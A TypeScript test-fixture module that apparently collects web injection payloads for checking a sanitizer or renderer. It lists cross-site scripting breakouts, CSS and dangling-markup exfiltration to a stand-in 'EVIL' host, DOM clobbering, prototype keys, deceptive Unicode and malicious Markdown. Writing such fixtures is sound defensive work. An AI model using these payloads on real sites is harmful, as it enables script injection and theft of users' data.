import { EVIL, RUN } from './trap.ts';

/** Out of an attribute, a style sheet, a string of a script. */
const OUT_OF = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `\` onmouseover=${RUN} \``,
  `x onerror=${RUN}`,
  `"/><svg/onload=${RUN}>`,
  `--><svg/onload=${RUN}>`,
  `*/</style><svg/onload=${RUN}>`,
  `</textarea></title></style></noscript></template></script><svg/onload=${RUN}>`,
  `';${RUN};'`,
  `";${RUN}//`,
  `\\";${RUN};//`,
  `\`;\${${RUN}};\``,
  `</letter-text></note-card></app-shell><script>${RUN}</script>`,
  `<!--lit-part--><?lit$0$><script>${RUN}</script><!--/lit-part-->`,
];

const STYLES = [
  `<style>*{color:red!important;background:url(${EVIL}/c)}</style>`,
  `<style>@import '${EVIL}/s.css';</style>`,
  `<style>@font-face{font-family:a;src:url(${EVIL}/f)}</style>`,
  `<style>input[value^=a]{background:url(${EVIL}/leak?a)}</style>`,
  `<p style="background:url(javascript:${RUN})">a</p>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:#fff">a</p>`,
  `<p style="width:expression(${RUN});behavior:url(${EVIL}/b.htc);-moz-binding:url(${EVIL}/b.xml#x)">a</p>`,
  `red;background:url(${EVIL}/u)`,
  `red}*{background:url(${EVIL}/u)!important}`,
  `1;position:fixed;inset:0`,
  `1); background: url(${EVIL}/v`,
  `\\75rl(${EVIL}/w)`,
  `var(--x,url(${EVIL}/var))`,
  `--page: red; color: red`,
];

/** What begins and does not end, and takes along what follows. */
const DANGLING = [
  `<img src="${EVIL}/d?`,
  `<a href="${EVIL}/d?`,
  `<base target="`,
  `<form action="${EVIL}/d"><textarea name=a>`,
  `<plaintext>`,
  `<!--`,
  `<![CDATA[`,
  `<script>/*`,
  `<style>`,
  `<svg><title>`,
];

/** What the page could take for its own. */
const CLOBBERING = [
  `<a id=trap></a><a id=trap name=x href="javascript:${RUN}"></a>`,
  `<form id=documentElement><input name=attributes><input name=parentNode></form>`,
  `<img name=body><img name=querySelector><img name=getElementById><embed name=currentScript>`,
  `<iframe name=self></iframe><object id=indexedDB></object><a id=room></a><a id=main></a>`,
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'room',
  'main',
  'trap',
  'top',
  'location',
  'document',
];

const CHARACTERS = [
  'a\u0000b',
  'a\u0008\u001b[31mred\u007f',
  '\ufffe\uffff',
  '\ud800',
  '\u202egpj.exe',
  '\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d',
  '\u200b\u200c\u200d\ufeff\u2060',
  '\u{e0001}\u{e0041}',
  'A\u0300'.repeat(60),
  '\u2028\u2029',
  'ﷺﷺﷺ',
];

const MARKDOWN = [
  `[a](javascript:${RUN})`,
  `[a](java&Tab;script:${RUN})`,
  `[a](<\u0001javascript:${RUN}>)`,
  `[a]: javascript:${RUN}\n\n[a]`,
  `![a](${EVIL}/a.png)`,
  `![a](x"onerror="${RUN})`,
  `[![a](javascript:${RUN})](data:text/html,${RUN})`,
  `<javascript:${RUN}>`,
  `[a](${EVIL} "x\\" onmouseover=\\"${RUN}")`,
  `\`\`\`"><script>${RUN}</script>\na\n\`\`\``,
  `| a |\n|:-" style="color:red|\n| <img src=x onerror=${RUN}> |`,
  `- [x] <input onfocus=${RUN} autofocus>`,
  `# <a name=trap>a</a> {#room onclick=${RUN}}`,
  `[^1]: <script>${RUN}</script>\n\n[^1]`,
  `a\n:   <svg onload=${RUN}>`,
  `<details open ontoggle=${RUN}>\n\n**a**\n\n</details>`,
];

/** What is no markup in itself: it breaks out of what it stands in, restyles it, or passes for something else. */
export const BREAKING_OUT: readonly string[] = [
  ...OUT_OF,
  ...STYLES,
  ...DANGLING,
  ...CLOBBERING,
  ...CHARACTERS,
  ...MARKDOWN,
];
